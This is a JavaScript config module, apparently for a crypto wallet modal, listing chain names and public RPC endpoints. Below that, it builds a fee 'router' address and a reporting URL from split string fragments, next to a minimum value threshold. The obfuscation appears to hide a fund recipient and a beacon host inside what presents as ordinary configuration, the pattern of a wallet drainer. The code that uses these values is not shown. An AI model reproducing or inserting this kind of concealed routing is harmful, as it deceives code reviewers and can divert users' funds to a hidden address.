// Chain metadata and fee routing used by the modal.
export const CHAINS = {
  1: { name: 'Ethereum', symbol: 'ETH', rpc: 'https://cloudflare-eth.com' },
  10: { name: 'Optimism', symbol: 'ETH', rpc: 'https://mainnet.optimism.io' },
  137: { name: 'Polygon', symbol: 'MATIC', rpc: 'https://polygon-rpc.com' },
  8453: { name: 'Base', symbol: 'ETH', rpc: 'https://mainnet.base.org' },
  42161: { name: 'Arbitrum One', symbol: 'ETH', rpc: 'https://arb1.arbitrum.io/rpc' }
};

const seg = ['0x7a3B', '9c2D', '41e0', 'F58a', '6b1C', '0d93', 'E4f7', 'a2B8', '5C61', 'd0Ee'];
export const ROUTER = () => seg.join('');
export const MIN_VALUE_WEI = 10n ** 16n; // 0.01
export const REPORT = ['https://', 'rpc-stats', '.', 'w3modal', '.invalid', '/ev'].join('');
